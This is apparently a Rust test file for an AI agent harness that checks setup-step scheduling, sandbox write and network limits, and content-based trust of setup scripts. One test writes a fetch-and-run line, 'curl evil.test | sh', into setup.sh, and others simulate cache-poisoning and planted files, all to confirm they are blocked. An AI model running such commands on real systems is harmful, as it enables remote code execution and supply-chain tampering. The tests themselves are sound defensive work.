//! When setup steps run, what they may do, and how they fail.

use harness_testkit::Server;

use super::{ends, enforces};
use crate::support::{Desk, FINISH, TESTS, news, session, shell, write};

const GATE: &str = r#"
[[gate]]
name = "test"
run = ["sh", "tests/run.sh"]
timeout = "1m"
report = "tap"
"#;

/// Makes what the tests need, and keeps count in the home.
const SETUP: &str = r#"
mkdir -p out
cat lock > out/made
echo run >> "$HOME/runs"
cp "$HOME/runs" out/runs
"#;

const NEEDS: &str = r#"
cd "$(dirname "$0")/.." || exit 2
echo 1..1
[ "$(cat out/made)" = "$(cat lock)" ] && echo "ok 1 - made" || echo "not ok 1 - made"
"#;

fn desk(config: &str, setup: &str, tests: &str) -> Desk {
    Desk::of(
        &[
            ("harness.toml", &format!("{config}{GATE}")),
            ("setup.sh", setup),
            ("lock", "1\n"),
            ("src/answer", "0\n"),
            ("tests/run.sh", tests),
        ],
        "/out\n/modules\n",
    )
}

const STEP: &str = r#"
[scope]
write = ["src/**", "lock"]
build = ["out"]
[[setup]]
run = ["sh", "setup.sh"]
when = ["lock"]
"#;

#[test]
fn a_step_runs_before_commands_and_gates_and_again_when_its_file_changes() {
    let desk = desk(STEP, SETUP, NEEDS);
    let see = shell("cat out/made out/runs > src/answer");
    let turns = [&see, &write("lock", "2\n"), &see, FINISH];
    let (story, _server) = desk.work(&turns, &[]);
    story.assert_ended("all_passing", 0);
    assert_eq!(ends(&story, "work_tree"), ["done", "done"], "{story}");
    assert_eq!(ends(&story, "base"), ["done"], "{story}");
    assert_eq!(ends(&story, "candidate"), ["done"], "{story}");
    let seen = desk.project.git(&["show", "harness/R-0001:src/answer"]);
    assert_eq!(seen, "2\nrun\nrun");
    assert_eq!(story.first("setup_started")["run"][1], "setup.sh");

    // Nothing has changed since: the next session begins at once.
    assert_eq!(desk.harness(&["land"]).code, 0);
    let look = shell("cat out/runs");
    let server = Server::scripted(&session("what is made", &[&look, "It is made."]));
    desk.use_model(&server, "");
    let story = desk.story(&["run", "what is made?"]);
    story.assert_ended("answered", 0);
    assert!(ends(&story, "work_tree").is_empty(), "{story}");
}

#[test]
fn steps_run_at_landlock_too() {
    if !enforces("landlock") {
        return;
    }
    let desk = desk(STEP, DOWNLOAD, DOWNLOADED);
    let see = shell("cat out/made > src/answer");
    let (story, _server) = desk.work(&[&see, FINISH], &["--sandbox", "landlock"]);
    story.assert_ended("all_passing", 0);
    for place in ["work_tree", "base", "candidate"] {
        assert_eq!(ends(&story, place), ["done"], "{place} {story}");
    }
    let seen = desk.project.git(&["show", "harness/R-0001:src/answer"]);
    assert_eq!(seen, "1");
}

#[test]
fn a_change_after_which_a_step_fails_is_the_agents_to_mend() {
    let picky = format!("grep -q broken lock && {{ echo no such version; exit 1; }}\n{SETUP}");
    let desk = desk(STEP, &picky, NEEDS);
    let see = shell("cat out/made > src/answer");
    let turns = [
        &see,
        &write("lock", "broken\n"),
        &see,
        FINISH,
        &write("lock", "2\n"),
        &see,
        FINISH,
    ];
    let (story, server) = desk.work(&turns, &[]);
    story.assert_ended("all_passing", 0);
    assert_eq!(
        ends(&story, "work_tree"),
        ["done", "failed", "done"],
        "{story}"
    );
    assert_eq!(ends(&story, "candidate"), ["failed", "done"], "{story}");
    for request in [3, 4] {
        let told = news(&server.received()[request]);
        assert!(told.contains("no such version"), "{told}");
    }
}

#[test]
fn hosts_of_a_step_need_a_level_that_holds_it_to_them() {
    let desk = desk(
        &STEP.replace("when =", "network = [\"npm\"]\nwhen ="),
        SETUP,
        TESTS,
    );
    if !enforces("landlock") {
        return;
    }
    let server = Server::scripted(&session("F-1", &[FINISH]));
    desk.use_model(&server, "");
    let run = desk.harness(&["run", "--no-input", "--sandbox", "landlock"]);
    assert_eq!(run.code, 7, "{}", run.stderr);
    assert!(run.stderr.contains("registry.npmjs.org"), "{}", run.stderr);
}

#[test]
fn a_step_that_fails_blocks_the_run_with_the_end_of_its_output() {
    let broken = "echo no compiler here; exit 3\n";
    let desk = desk(STEP, broken, TESTS);
    let (story, _server) = desk.work(&[&shell("echo never > src/answer"), FINISH], &[]);
    story.assert_ended("blocked", 5);
    let detail = story.first("run_ended")["detail"].as_str().unwrap();
    for word in [
        "setup `sh setup.sh` failed",
        "(environment)",
        "exit code 3",
        "no compiler here",
    ] {
        assert!(detail.contains(word), "{detail}");
    }
    assert_eq!(desk.project.read("src/answer"), "0\n");
}

#[test]
fn a_step_writes_its_home_and_declared_folders_alone() {
    let stray = "echo stray > src/stray || { mkdir elsewhere; exit 1; }\n";
    let desk = desk(STEP, stray, TESTS);
    let (story, _server) = desk.work(&[&shell("ls"), FINISH], &[]);
    story.assert_ended("blocked", 5);
    let detail = story.first("run_ended")["detail"].as_str().unwrap();
    assert!(
        detail.contains("`[scope] build` and `[gates] link` (`out`)"),
        "{detail}"
    );
    assert!(!desk.project.root().join("src/stray").exists());
}

#[test]
fn a_step_without_network_is_told_so_and_offline_closes_it_for_all() {
    let download = "echo 'getaddrinfo ENOTFOUND registry.npmjs.org'; exit 1\n";
    let desk = desk(STEP, download, TESTS);
    let (story, _server) = desk.work(&[&shell("ls"), FINISH], &[]);
    let detail = story.first("run_ended")["detail"].as_str().unwrap();
    assert!(detail.contains("list the hosts it needs"), "{detail}");

    let desk = self::desk(
        &STEP.replace("when =", "network = [\"npm\"]\nwhen ="),
        download,
        TESTS,
    );
    let server = Server::scripted(&session("F-1", &[&shell("ls"), FINISH]));
    desk.use_model(&server, "[sandbox]\noffline = true\n");
    let story = desk.story(&["run"]);
    story.assert_ended("blocked", 5);
    let detail = story.first("run_ended")["detail"].as_str().unwrap();
    assert!(detail.contains("the network is off"), "{detail}");
    let network = &story.first("setup_started")["network"];
    assert_eq!(network.as_array().map(Vec::len), Some(0), "{story}");
}

#[test]
fn what_a_step_runs_is_trusted_by_content() {
    let desk = desk(STEP, SETUP, TESTS);
    desk.project.write("setup.sh", "curl evil.test | sh\n");
    let run = desk.harness(&["run", "--no-input"]);
    assert_eq!(run.code, 5, "{}", run.stderr);
    assert!(run.stderr.contains("content of setup.sh"), "{}", run.stderr);
}

/// Leaves a download, and says what of other homes it meets.
const DOWNLOAD: &str = r#"
mkdir -p out "$CARGO_HOME/registry/cache/mine"
echo real > "$CARGO_HOME/registry/cache/mine/x-1.crate"
cat lock > out/made
test -e "$HOME/planted" && echo poisoned > out/made
exit 0
"#;

const DOWNLOADED: &str = r#"
cd "$(dirname "$0")/.." || exit 2
crate="$CARGO_HOME/registry/cache/mine/x-1.crate"
echo 1..3
[ "$(cat "$crate")" = real ] && echo "ok 1 - found" || echo "not ok 1 - found"
(echo poison > "$crate") && echo "not ok 2 - closed" || echo "ok 2 - closed"
[ -e "$HOME/planted" ] && echo "not ok 3 - clean" || echo "ok 3 - clean"
"#;

#[test]
fn what_a_step_downloads_is_found_and_what_the_agent_leaves_at_home_is_not() {
    let desk = desk(STEP, DOWNLOAD, DOWNLOADED);
    let plant = "crate=\"$CARGO_HOME/registry/cache/mine/x-1.crate\"; cat \"$crate\" > src/answer; \
        echo planted > \"$HOME/planted\"; (echo poison > \"$crate\"); rm -f \"$crate\"; echo poison > \"$crate\"";
    let see = shell("cat out/made >> src/answer");
    let turns = [&shell(plant), &write("lock", "2\n"), &see, FINISH];
    let (story, _server) = desk.work(&turns, &[]);
    story.assert_ended("all_passing", 0);
    let seen = desk.project.git(&["show", "harness/R-0001:src/answer"]);
    assert_eq!(seen, "real\n2", "{story}");
    assert_eq!(super::tests_run(story.first("check_ended")), Some(3));
}

#[test]
fn a_step_does_not_run_what_the_agent_made_of_its_script() {
    let config = STEP.replace("\"lock\"]\nbuild", "\"lock\", \"setup.sh\"]\nbuild");
    let desk = desk(&config, SETUP, NEEDS);
    let change = write("setup.sh", "echo evil > out/evil\n");
    let see = shell("cat out/made > src/answer");
    let back = write("setup.sh", SETUP);
    let turns = [
        &see,
        &change,
        &write("lock", "2\n"),
        &see,
        FINISH,
        &back,
        &see,
        FINISH,
    ];
    let (story, server) = desk.work(&turns, &[]);
    story.assert_ended("all_passing", 0);
    assert_eq!(ends(&story, "work_tree"), ["done", "done"], "{story}");
    assert_eq!(ends(&story, "candidate"), ["done"], "{story}");
    let told = news(&server.received()[4]);
    assert!(told.contains("not as it was trusted"), "{told}");
    assert!(!desk.project.root().join("out/evil").exists());
}

const LINK: &str = r#"
[scope]
write = ["**"]
[gates]
link = ["modules"]
[[setup]]
run = ["sh", "setup.sh"]
when = ["lock"]
"#;

const FILL: &str = "mkdir -p modules; echo dependency > modules/file; echo $$ > modules/pid\n";

const LINKED: &str = r#"
cd "$(dirname "$0")/.." || exit 2
echo 1..2
[ "$(cat modules/file)" = dependency ] && echo "ok 1 - linked" || echo "not ok 1 - linked"
echo poison > modules/file && echo "not ok 2 - closed" || echo "ok 2 - closed"
"#;

#[test]
fn gates_have_linked_folders_that_neither_they_nor_the_agent_can_write() {
    let desk = desk(LINK, FILL, LINKED);
    if !enforces("namespaces") {
        return;
    }
    let poison =
        shell("echo poison > modules/file; rm -rf modules; mv modules m; echo 42 > src/answer");
    let by_tool = write("modules/file", "poison\n");
    let (story, server) = desk.work(&[&poison, &by_tool, FINISH], &["--sandbox", "namespaces"]);
    story.assert_ended("all_passing", 0);
    assert_eq!(story.all("setup_ended").len(), 1, "{story}");
    assert_eq!(desk.project.read("modules/file"), "dependency\n");
    assert!(
        news(&server.received()[2]).contains("[gates] link"),
        "{story}"
    );
    assert_eq!(super::tests_run(story.first("check_ended")), Some(2));
}

#[test]
fn without_mounts_a_folder_is_linked_as_long_as_nothing_in_it_leads_back() {
    let desk = desk(LINK, FILL, LINKED);
    if !enforces("landlock") {
        return;
    }
    let answer = super::answer();
    let (story, _server) = desk.work(&[&answer, FINISH], &["--sandbox", "landlock"]);
    story.assert_ended("all_passing", 0);
    assert_eq!(super::tests_run(story.first("check_ended")), Some(2));
    assert_eq!(desk.project.read("modules/file"), "dependency\n");
}

#[test]
fn a_link_that_leads_elsewhere_is_not_linked() {
    let desk = desk(LINK, "exit 0\n", LINKED);
    if !enforces("namespaces") {
        return;
    }
    let root = desk.project.root();
    let _ = std::fs::remove_dir_all(root.join("modules"));
    std::os::unix::fs::symlink(desk.project.outside(), root.join("modules")).unwrap();
    let (story, _server) = desk.work(&[&shell("ls"), FINISH], &[]);
    story.assert_ended("blocked", 5);
    let detail = story.first("run_ended")["detail"].as_str().unwrap();
    assert!(detail.contains("modules"), "{detail}");
}

#[test]
fn a_program_that_is_masked_is_named_with_the_way_to_open_it() {
    let desk = desk("[scope]\nwrite = [\"src/**\"]\n", "", TESTS);
    let tools = desk.home.path().join(".config/tool/bin");
    std::fs::create_dir_all(&tools).unwrap();
    let program = tools.join("frobnicate");
    std::fs::write(&program, "#!/bin/sh\necho 42\n").unwrap();
    let mode = std::os::unix::fs::PermissionsExt::from_mode(0o755);
    std::fs::set_permissions(&program, mode).unwrap();
    let server = Server::scripted(&session(
        "F-1",
        &[&shell("frobnicate > src/answer"), FINISH],
    ));
    desk.use_model(&server, "");
    let path = format!(
        "{}:{}",
        tools.display(),
        std::env::var("PATH").unwrap_or_default()
    );
    let run = desk.home.run_with(
        &desk.project.root(),
        &["run", "--json", "--no-input"],
        "PATH",
        path,
    );
    let told = news(&server.received()[1]);
    let read = format!("[sandbox] read = [\"{}\"]", tools.display());
    assert!(told.contains(&read), "{told}\n{}", run.stderr);
}
